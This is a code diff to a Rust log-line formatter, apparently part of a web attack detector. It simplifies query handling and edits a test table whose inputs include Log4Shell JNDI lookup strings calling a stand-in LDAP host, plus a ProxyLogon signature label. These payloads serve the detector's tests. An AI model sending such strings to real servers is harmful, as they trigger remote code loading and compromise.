@@ -160,12 +160,7 @@ fn line(request: &Request<'_>) -> String {
             one_word
         }
     };
-    // Some logs give the whole address as the query.
-    let query = match request.query.strip_prefix(request.path) {
-        Some(rest) if !request.path.is_empty() => rest.trim_start_matches('?'),
-        _ => request.query,
-    };
-    let query = if query == "-" { "" } else { query };
+    let query = if request.query == "-" { "" } else { request.query };
     format!(
         "{} {}?{} anchor={} cookie={} referer={} agent={}",
         request.method.to_lowercase(),
@@ -242,7 +237,7 @@ mod tests {
                 "proxylogon-page",
             ),
             ("GET", "/x", "q=${jndi:ldap://x.example/a}", "log4shell"),
-            ("GET", "/x", "/x?q=%24%7Bjndi:ldap://x.example/a%7D", "log4shell"),
+            ("GET", "/x", "q=%24%7Bjndi:ldap://x.example/a%7D", "log4shell"),
         ] {
             assert_eq!(found(method, path, query), Some(id), "{method} {path}?{query}");
         }
